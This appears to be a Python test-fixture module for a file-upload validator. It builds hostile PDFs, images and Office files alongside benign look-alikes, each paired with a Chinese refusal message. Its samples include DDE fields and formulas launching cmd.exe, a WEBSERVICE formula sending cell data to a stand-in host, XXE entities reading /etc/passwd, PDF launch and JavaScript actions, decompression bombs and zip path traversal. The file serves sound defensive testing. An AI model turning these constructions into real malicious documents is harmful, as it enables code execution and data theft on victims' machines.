"""Hostile uploads, made in memory, each with the sentence it is refused with; and legal ones that look like them."""

import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject, TextStringObject

from cellcert.evidence.rules import opens_heic
from tests.evidence import files
from tests.evidence.files import office, pdf, picture, relations, writer

MEGABYTE = 1024 * 1024
TYPE = "“{name}”的类型不能上传。可以上传：pdf、jpg、png、webp、docx、xlsx。"
HEIC = "“{name}”是 HEIC 照片，本系统打不开。请在手机相机的格式设置里选“兼容性最佳”，或转成 JPG 再上传。"
EMPTY = "“{name}”是空文件。请重新选择。"
LARGE = "“{name}”超过 20 MB。请压缩后再上传，或拆成几个文件。"
OTHER = "“{{name}}”的内容不是 {kind} 文件。请用原来的软件另存为 {kind}，再上传。"
LOCKED_OFFICE = "“{{name}}”设有密码，或者是旧版 Office 格式。请取消密码，另存为 {kind}，再上传。"
LOCKED_ZIP = "“{name}”设有密码。请取消密码后再上传。"
PIXELS = "“{name}”的像素太多（超过 4000 万）。请缩小图片后再上传。"
PICTURE = "“{name}”不是完整的图片，打不开。请重新拍照或导出后再上传。"
PDF = "“{name}”的 PDF 结构不完整。请用原来的软件重新导出或打印成 PDF，再上传。"
LOCKED_PDF = "“{name}”设有密码或限制。请取消加密后再上传。"
PAGES = "“{name}”里没有页面。请重新导出。"
SCRIPT = "“{name}”里有脚本（JavaScript）。请打印成 PDF 后再上传。"
STARTS = "“{name}”会启动程序，或打开别的文件。请打印成 PDF 后再上传。"
CARRIES = "“{name}”里嵌着别的文件。请打印成 PDF；嵌着的文件另外上传。"
DYNAMIC = "“{name}”是动态表单（XFA）。请打印成 PDF 后再上传。"
SENDS = "“{name}”会提交表单，或导入数据。请打印成 PDF 后再上传。"
PLAYS = "“{name}”里有音频、视频或三维内容。请打印成 PDF 后再上传。"
OPENS = "“{name}”一打开就自动执行动作。请打印成 PDF 后再上传。"
LINKS = "“{name}”里有打开本机文件或运行脚本的链接。请打印成 PDF 后再上传。"
ELSEWHERE = "“{name}”的内容放在别的文件里。请打印成 PDF 后再上传。"
MACRO = "“{{name}}”带有宏或控件。请另存为不带宏的 {kind} 文件，或导出为 PDF。"
OUTSIDE = "“{name}”引用了外部图片、模板或数据。请把内容嵌入文件，或导出为 PDF。"
FETCHES = "“{name}”里有从别处取数据的域或公式。请改成普通内容，或导出为 PDF。"
INSIDE = "“{name}”里嵌着别的文件。请导出为 PDF；嵌着的文件另外上传。"
SWOLLEN = "“{name}”解开后太大。请删去多余内容，或导出为 PDF 后再上传。"
BROKEN = "“{{name}}”不是完整的 {kind} 文件。请重新保存，或导出为 PDF 后再上传。"
UNCHECKED = "“{name}”无法检查：打开它用的时间或内存太多。请用原来的软件重新导出，或拆成几个文件后再上传。"
PACKAGE = "application/vnd.openxmlformats-officedocument"


def of_kind(sentence: str, kind: str) -> str:
    return sentence.format(kind=kind)


# PDF


def dictionary(**entries: object) -> DictionaryObject:
    made = DictionaryObject()
    for key, value in entries.items():
        made[NameObject(f"/{key}")] = _written(value) if isinstance(value, str) else value
    return made


def _written(text: str) -> NameObject | TextStringObject:
    return NameObject(text) if text.startswith("/") else TextStringObject(text)


def changed(change: Callable[[PdfWriter], None]) -> bytes:
    made = writer()
    change(made)
    return pdf(made)


def on_root(**entries: object) -> bytes:
    return changed(lambda made: made.root_object.update(dictionary(**entries)))


def on_page(**entries: object) -> bytes:
    return changed(lambda made: made.pages[0].update(dictionary(**entries)))


def with_note(**entries: object) -> bytes:
    note = dictionary(Type="/Annot", **entries)
    return changed(lambda made: made.pages[0].update({NameObject("/Annots"): ArrayObject([made._add_object(note)])}))


def link(address: str) -> bytes:
    return with_note(Subtype="/Link", A=dictionary(S="/URI", URI=address))


def behind_references() -> bytes:
    """The kind of the action stands behind a reference, the keys written in hexadecimal."""

    def hide(made: PdfWriter) -> None:
        kind = made._add_object(NameObject("/JavaScript"))
        action = made._add_object(dictionary(S=kind))
        made.pages[0][NameObject("/AA")] = dictionary(O=action)

    return changed(hide)


def in_object_streams() -> bytes:
    """The same file with its objects packed where a search of the bytes sees nothing."""
    made = writer()
    made.root_object[NameObject("/OpenAction")] = made._add_object(dictionary(S="/JavaScript", JS="app.alert(1)"))
    out = BytesIO()
    made.write(out)
    plain = out.getvalue()
    numbers = [int(n) for n in _numbers(plain)]
    bodies = {n: _body(plain, n) for n in numbers}
    index, packed = "", b""
    for n, body in bodies.items():
        index += f"{n} {len(packed)} "
        packed += body + b"\n"
    content = zlib.compress(index.encode() + packed)
    root = next(n for n, body in bodies.items() if b"/Catalog" in body)
    stream, table = max(numbers) + 1, max(numbers) + 2
    head = b"%PDF-1.5\n"
    holder = (
        (
            f"{stream} 0 obj\n<</Type/ObjStm/N {len(numbers)}/First {len(index)}/Filter/FlateDecode"
            f"/Length {len(content)}>>stream\n"
        ).encode()
        + content
        + b"\nendstream\nendobj\n"
    )
    rows = [struct.pack("!BHB", 0, 0, 0)] * (table + 1)
    for at, n in enumerate(numbers):
        rows[n] = struct.pack("!BHB", 2, stream, at)
    rows[stream] = struct.pack("!BHB", 1, len(head), 0)
    rows[table] = struct.pack("!BHB", 1, len(head) + len(holder), 0)
    cross = zlib.compress(b"".join(rows))
    tail = (
        (
            f"{table} 0 obj\n<</Type/XRef/Size {table + 1}/W[1 2 1]/Root {root} 0 R/Filter/FlateDecode"
            f"/Length {len(cross)}>>stream\n"
        ).encode()
        + cross
        + b"\nendstream\nendobj\n"
    )
    return head + holder + tail + f"startxref\n{len(head) + len(holder)}\n%%EOF\n".encode()


def _numbers(plain: bytes) -> list[bytes]:
    return [line.split()[0] for line in plain.split(b"\n") if line.endswith(b" 0 obj")]


def _body(plain: bytes, number: int) -> bytes:
    start = plain.index(f"\n{number} 0 obj\n".encode()) + len(f"\n{number} 0 obj\n")
    return plain[start : plain.index(b"\nendobj", start)]


def pages_without_end() -> bytes:
    made = writer()
    pages = made.root_object["/Pages"]
    pages[NameObject("/Kids")].append(pages.indirect_reference)
    return pdf(made)


def many_objects() -> bytes:
    return on_root(Many=ArrayObject([NumberObject(1)] * 400_000))


def content_bomb() -> bytes:
    """An object stream that unfolds to 2 GB."""
    squeezer = zlib.compressobj(9)
    pieces = [squeezer.compress(b" " * MEGABYTE) for _ in range(2000)]
    content = b"".join(pieces) + squeezer.flush()
    head = b"%PDF-1.5\n"
    holder = (
        f"1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length {len(content)}>>stream\n".encode()
        + content + b"\nendstream\nendobj\n"
    )  # fmt: skip
    rows = b"".join(
        struct.pack("!BIB", *row) for row in ((0, 0, 0), (1, len(head), 0), (2, 1, 0), (1, len(head) + len(holder), 0))
    )
    tail = f"3 0 obj\n<</Type/XRef/Size 4/W[1 4 1]/Root 2 0 R/Length {len(rows)}>>stream\n".encode()
    end = f"\nendstream\nendobj\nstartxref\n{len(head) + len(holder)}\n%%EOF\n".encode()
    return head + holder + tail + rows + end


def streamed_from_elsewhere() -> bytes:
    def point(made: PdfWriter) -> None:
        stream = StreamObject()
        stream.set_data(b"")
        stream[NameObject("/F")] = TextStringObject("\\\\server\\share\\x")
        made.pages[0][NameObject("/Contents")] = made._add_object(stream)

    return changed(point)


# pictures


def png(*chunks: tuple[bytes, bytes]) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))

    return b"\x89PNG\r\n\x1a\n" + b"".join(chunk(*one) for one in chunks)


def png_head(width: int, height: int) -> tuple[bytes, bytes]:
    return b"IHDR", struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)


def text_bomb() -> bytes:
    text = PngImagePlugin.PngInfo()
    text.add_text("a", "x" * (80 * MEGABYTE), zip=True)
    out = BytesIO()
    Image.new("RGB", (1, 1)).save(out, "PNG", pnginfo=text)
    return out.getvalue()


def large_picture(size: tuple[int, int], kind: str = "PNG") -> bytes:
    out = BytesIO()
    Image.new("1" if kind == "PNG" else "L", size).save(out, kind)
    return out.getvalue()


# office


def docx(text: str) -> bytes:
    return office(extra={"word/document.xml": f'<?xml version="1.0"?><w:d xmlns:w="w">{text}</w:d>'.encode()})


def sheet(text: str) -> bytes:
    return office("xlsx", {"xl/worksheets/sheet1.xml": f"<?xml version='1.0'?><w><row>{text}</row></w>".encode()})


def pointing(kind: str, target: str, where: str = "word/_rels/document.xml.rels") -> bytes:
    return office("xlsx" if where.startswith("xl/") else "docx", {where: relations((kind, target, "External"))})


def typed(kind: str, content_type: str) -> bytes:
    types = f'<Types><Override PartName="/x" ContentType="{content_type}"/></Types>'.encode()
    return office(kind, {"[Content_Types].xml": types})


def overlapping() -> bytes:
    """Two names for the same bytes: the old way to make much of little."""
    data = bytearray(office(extra={"word/a.xml": b"<a>" + b"x" * 2000 + b"</a>", "word/b.xml": b"<b/>"}))
    directory = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/b.xml"))
    target = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/a.xml"))
    data[directory + 42 : directory + 46] = data[target + 42 : target + 46]
    return bytes(data)


def locked() -> bytes:
    data = bytearray(office())
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def linked() -> bytes:
    out = BytesIO(office())
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo("word/link.xml")
        info.external_attr = 0xA1FF << 16
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def twice(name: str) -> bytes:
    out = BytesIO(office())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(name, "<a/>")
    return out.getvalue()


def hidden_before() -> bytes:
    """A complete archive, and before it another the directory does not know."""
    return office("docx", {"x.html": b"<script>alert(1)</script>"}) + office()


def deep_xml() -> bytes:
    return docx("<a>" * 200_000 + "</a>" * 200_000)


INSTRUCTION = "<w:p><w:r><w:instrText>{}</w:instrText></w:r></w:p>"
ENTITIES = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
LAUGHS = b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "' + b"&a;" * 1000 + b'">]><a>&b;</a>'
COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000


def hostile() -> dict[str, tuple[str, bytes, str]]:
    """What is uploaded, under which name, and the sentence it must be refused with."""
    docx_broken, xlsx_broken = of_kind(BROKEN, "DOCX"), of_kind(BROKEN, "XLSX")
    js = dictionary(S="/JavaScript", JS="app.alert(1)")
    return {
        # what it is called and what it is
        "program": ("a.exe", b"MZ" * 50, TYPE),
        "page": ("a.html", b"<script>alert(1)</script>", TYPE),
        "drawing with script": ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", TYPE),
        "second extension": ("a.pdf.html", pdf(), TYPE),
        "hidden extension": ("a.pdf\u202egpj.exe", pdf(), TYPE),
        "no extension": ("台账", pdf(), TYPE),
        "dot": (".pdf", pdf(), TYPE),
        "macro document by name": ("a.docm", office(), TYPE),
        "old document": ("a.doc", COMPOUND, TYPE),
        "archive": ("a.zip", office(), TYPE),
        "phone photo": ("IMG_1.HEIC", b"\0\0\0\x18ftypheic" + b"\0" * 50, PICTURE if opens_heic() else HEIC),
        "nothing": ("a.pdf", b"", EMPTY),
        "too long": ("a.pdf", pdf() + b" " * 20 * MEGABYTE, LARGE),
        "page as photo": ("a.jpg", b"<html><script>alert(1)</script></html>", of_kind(OTHER, "JPG")),
        "drawing as photo": ("a.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>", of_kind(OTHER, "PNG")),
        "paper as photo": ("a.png", pdf(), of_kind(OTHER, "PNG")),
        "photo as paper": ("a.pdf", picture(), of_kind(OTHER, "PDF")),
        "postscript as photo": ("a.png", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n", of_kind(OTHER, "PNG")),
        "gif as photo": ("a.jpg", picture("GIF"), of_kind(OTHER, "JPG")),
        "tiff as photo": ("a.jpg", picture("TIFF"), of_kind(OTHER, "JPG")),
        "page before paper": ("a.pdf", b"<script>alert(1)</script>" + pdf(), of_kind(OTHER, "PDF")),
        "program before archive": ("a.docx", b"MZ" + office(), of_kind(OTHER, "DOCX")),
        "locked document": ("a.docx", COMPOUND, of_kind(LOCKED_OFFICE, "DOCX")),
        "old workbook": ("a.xlsx", COMPOUND, of_kind(LOCKED_OFFICE, "XLSX")),
        # pictures
        "torn photo": ("a.jpg", picture(size=(400, 400), quality=95)[:-300], PICTURE),
        "torn png": ("a.png", picture("PNG")[:60], PICTURE),
        "torn webp": ("a.webp", picture("WEBP", (300, 300), lossless=True)[:40], PICTURE),
        "only a head": ("a.png", png(png_head(10, 10)), PICTURE),
        "wrong sum": ("a.png", picture("PNG")[:20] + b"\xff" + picture("PNG")[21:], PICTURE),
        "pixel bomb": ("a.png", large_picture((8001, 5000)), PIXELS),
        "pixel bomb, photo": ("a.jpg", large_picture((9000, 9000), "JPEG"), PIXELS),
        "claims a billion": ("a.png", png(png_head(2**31 - 1, 2**31 - 1), (b"IDAT", zlib.compress(b""))), PICTURE),
        "text bomb": ("a.png", text_bomb(), PICTURE),
        # papers
        "torn paper": ("a.pdf", pdf()[:-40], PDF),
        "tail": ("a.pdf", pdf() + office() + b"x" * 2000, PDF),
        "no table": ("a.pdf", pdf().replace(b"startxref", b"startxxxx"), PDF),
        "pages without end": ("a.pdf", pages_without_end(), PDF),
        "no pages": ("a.pdf", pdf(writer(0)), PAGES),
        "locked paper": ("a.pdf", files.pdf_locked(), LOCKED_PDF),
        "unfolds to 2 GB": ("a.pdf", content_bomb(), PDF),
        "400,000 objects": ("a.pdf", many_objects(), PDF),
        "named script": ("a.pdf", files.pdf_with_javascript(), SCRIPT),
        "script on opening": ("a.pdf", on_root(OpenAction=js), SCRIPT),
        "script on a page": ("a.pdf", on_page(AA=dictionary(O=js)), SCRIPT),
        "script behind references": ("a.pdf", behind_references(), SCRIPT),
        "script in packed objects": ("a.pdf", in_object_streams(), SCRIPT),
        "script in a button": ("a.pdf", with_note(Subtype="/Widget", A=js), SCRIPT),
        "script after another action": (
            "a.pdf", with_note(Subtype="/Link", A=dictionary(S="/GoTo", D="x", Next=js)), SCRIPT,
        ),
        "program from a page": ("a.pdf", files.pdf_launching_from_a_page(), STARTS),
        "program on opening": ("a.pdf", on_root(OpenAction=dictionary(S="/Launch", F="cmd.exe")), STARTS),
        "another file on opening": ("a.pdf", on_root(OpenAction=dictionary(S="/GoToR", F="\\\\h\\s")), STARTS),
        "attachment": ("a.pdf", files.pdf_with_attachment(), CARRIES),
        "pinned file": ("a.pdf", with_note(Subtype="/FileAttachment"), CARRIES),
        "dynamic form": ("a.pdf", on_root(AcroForm=dictionary(XFA="<xdp/>")), DYNAMIC),
        "form that sends": ("a.pdf", with_note(Subtype="/Widget", A=dictionary(S="/SubmitForm", F="http://x")), SENDS),
        "data brought in": ("a.pdf", with_note(Subtype="/Widget", A=dictionary(S="/ImportData", F="x")), SENDS),
        "film": ("a.pdf", with_note(Subtype="/Movie"), PLAYS),
        "rich media": ("a.pdf", with_note(Subtype="/RichMedia"), PLAYS),
        "address on opening": ("a.pdf", files.pdf_opening("/URI"), OPENS),
        "named act on opening": ("a.pdf", on_root(OpenAction=dictionary(S="/Named", N="/Print")), OPENS),
        "link that runs": ("a.pdf", link("javascript:alert(1)"), LINKS),
        "link to a file": ("a.pdf", link("file:///c:/windows/system32/cmd.exe"), LINKS),
        "content elsewhere": ("a.pdf", streamed_from_elsewhere(), ELSEWHERE),
        # office
        "workbook as document": ("a.docx", office("xlsx"), docx_broken),
        "plain archive": ("a.docx", office(leave_out="word/document.xml"), docx_broken),
        "torn workbook": ("a.xlsx", office("xlsx")[:-30], xlsx_broken),
        "bare head": ("a.xlsx", b"PK\x03\x04" + b"\0" * 100, xlsx_broken),
        "macros": ("a.docx", office(extra={"word/vbaProject.bin": b"x"}), of_kind(MACRO, "DOCX")),
        "docm renamed": (
            "a.docx", typed("docx", "application/vnd.ms-word.document.macroEnabled.main+xml"), of_kind(MACRO, "DOCX"),
        ),
        "xlsm renamed": (
            "a.xlsx", typed("xlsx", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"), of_kind(MACRO, "XLSX"),
        ),
        "old macro sheet": ("a.xlsx", office("xlsx", {"xl/macrosheets/s.xml": b"<a/>"}), of_kind(MACRO, "XLSX")),
        "control": ("a.docx", office(extra={"word/activeX/activeX1.bin": b"x"}), of_kind(MACRO, "DOCX")),
        "foreign entity": ("a.docx", office(extra={"word/x.xml": ENTITIES}), docx_broken),
        "laughs": ("a.xlsx", office("xlsx", {"xl/x.xml": LAUGHS}), xlsx_broken),
        "entities in UTF-16": (
            "a.docx", office(extra={"word/x.xml": ENTITIES.decode().encode("utf-16")}), docx_broken,
        ),
        "outside template": (
            "a.docx", pointing("attachedTemplate", "http://h/t.dotm", "word/_rels/settings.xml.rels"), OUTSIDE,
        ),
        "outside picture": ("a.docx", pointing("image", "http://h/x.png"), OUTSIDE),
        "picture of a share": ("a.docx", pointing("image", "file://h/x.png"), OUTSIDE),
        "frame": ("a.docx", pointing("frame", "http://h/"), OUTSIDE),
        "outside object": ("a.docx", pointing("oleObject", "mhtml:http://h/x!x-usc:http://h/x"), OUTSIDE),
        "link to a share": ("a.docx", pointing("hyperlink", "file://h/share"), OUTSIDE),
        "outside workbook": (
            "a.xlsx", pointing("externalLinkPath", "http://h/x", "xl/externalLinks/_rels/e1.xml.rels"), OUTSIDE,
        ),
        "connection": ("a.xlsx", office("xlsx", {"xl/connections.xml": b"<connections/>"}), OUTSIDE),
        "field that runs": ("a.docx", docx(INSTRUCTION.format("DDEAUTO c:\\\\cmd.exe \"/k calc\"")), FETCHES),
        "field cut in two": ("a.docx", docx(INSTRUCTION.format(" DDE") + INSTRUCTION.format("AUTO cmd")), FETCHES),
        "simple field": ("a.docx", docx('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://h&quot; "/>'), FETCHES),
        "formula that runs": ("a.xlsx", sheet("<c><f>cmd|'/C calc'!A0</f></c>"), FETCHES),
        "formula that asks": ("a.xlsx", sheet('<c><f>WEBSERVICE("http://h/"&amp;A1)</f></c>'), FETCHES),
        "dde link": ("a.xlsx", office("xlsx", {"xl/externalLinks/e1.xml": b"<a><ddeLink/></a>"}), FETCHES),
        "embedded program": ("a.docx", office(extra={"word/embeddings/oleObject1.bin": b"MZ"}), INSIDE),
        "embedded in embedded": (
            "a.docx",
            office(extra={"word/embeddings/a.docx": office(extra={"word/embeddings/b.xlsx": office("xlsx")})}), INSIDE,
        ),
        "embedded macros": (
            "a.docx", office(extra={"word/embeddings/a.xlsx": office("xlsx", {"xl/vbaProject.bin": b"x"})}),
            of_kind(MACRO, "XLSX"),
        ),
        "bomb": ("a.docx", office(extra={"word/big.bin": b"\0" * (6 * MEGABYTE)}), SWOLLEN),
        "bomb of words": ("a.xlsx", office("xlsx", {"xl/s.xml": b"<a>" + b" " * 30 * MEGABYTE + b"</a>"}), SWOLLEN),
        "many parts": ("a.xlsx", office("xlsx", {f"x/{n}": b"" for n in range(2001)}), SWOLLEN),
        "locked parts": ("a.docx", locked(), LOCKED_ZIP),
        "overlap": ("a.docx", overlapping(), docx_broken),
        "path outside": ("a.docx", office(extra={"../../etc/x": b"x"}), docx_broken),
        "path from the root": ("a.docx", office(extra={"/etc/x": b"x"}), docx_broken),
        "path with a drive": ("a.docx", office(extra={"c:\\x": b"x"}), docx_broken),
        "symbolic link": ("a.docx", linked(), docx_broken),
        "same name in other letters": ("a.docx", twice("word/DOCUMENT.xml"), docx_broken),
        "archive before archive": ("a.docx", hidden_before(), docx_broken),
        "200,000 deep": ("a.docx", deep_xml(), docx_broken),
    }  # fmt: skip


def legal() -> dict[str, tuple[str, bytes]]:
    """What must be accepted though it resembles what is not."""
    shown = writer(2)
    shown.add_annotation(0, Link(rect=(0, 0, 9, 9), url="https://example.org/规范"))
    chart = office("xlsx", {"xl/charts/chart1.xml": b"<c/>", "xl/media/image1.png": picture("PNG")})
    comment = docx(INSTRUCTION.format(" PAGE ") + INSTRUCTION.format(' HYPERLINK "https://example.org" '))
    formula = sheet('<c><f>SUM(A1:A9)</f></c><c><f>IF(A1&gt;0,"a|b","")</f></c>')
    return {
        "paper": ("方案.pdf", pdf()),
        "paper of many pages": ("报告.PDF", pdf(writer(200))),
        "paper with links": ("a.pdf", pdf(shown)),
        "paper that opens at a page": ("a.pdf", files.pdf_opening_at_a_page()),
        "paper that goes to a page": ("a.pdf", on_root(OpenAction=dictionary(S="/GoTo", D="x"))),
        "paper with a little tail": ("a.pdf", pdf() + b"\r\n\0\0"),
        "form": ("a.pdf", on_root(AcroForm=dictionary(Fields=ArrayObject()))),
        "photo": ("现场.jpg", picture(size=(1600, 1200), exif=files.exif(6))),
        "photo, other ending": ("a.JPEG", picture(quality=10)),
        "photo of print colours": ("a.jpg", picture_in("CMYK", "JPEG")),
        "grey photo": ("a.jpg", picture_in("L", "JPEG")),
        "photo with something behind it": ("a.jpg", picture() + office()),
        "screen picture": ("a.png", picture_in("RGBA", "PNG")),
        "few colours": ("a.png", picture_in("P", "PNG")),
        "sixteen bits": ("a.png", picture_in("I;16", "PNG")),
        "forty million": ("a.png", large_picture((8000, 5000))),
        "webp": ("a.webp", picture("WEBP", (900, 500))),
        "document": ("a.docx", office()),
        "document with a link": ("a.docx", pointing("hyperlink", "https://example.org")),
        "document with a letter": ("a.docx", pointing("hyperlink", "mailto:a@example.org")),
        "document with fields": ("a.docx", comment),
        "document with a chart": ("a.docx", office(extra={"word/embeddings/Sheet1.xlsx": chart})),
        "workbook": ("台账 2025.xlsx", office("xlsx")),
        "workbook with formulas": ("a.xlsx", formula),
        "workbook with pictures": ("a.xlsx", chart),
        "stored, not packed": ("a.xlsx", office("xlsx", how=zipfile.ZIP_STORED)),
    }  # fmt: skip


def picture_in(mode: str, kind: str) -> bytes:
    out = BytesIO()
    Image.new(mode, (80, 60)).save(out, kind)
    return out.getvalue()
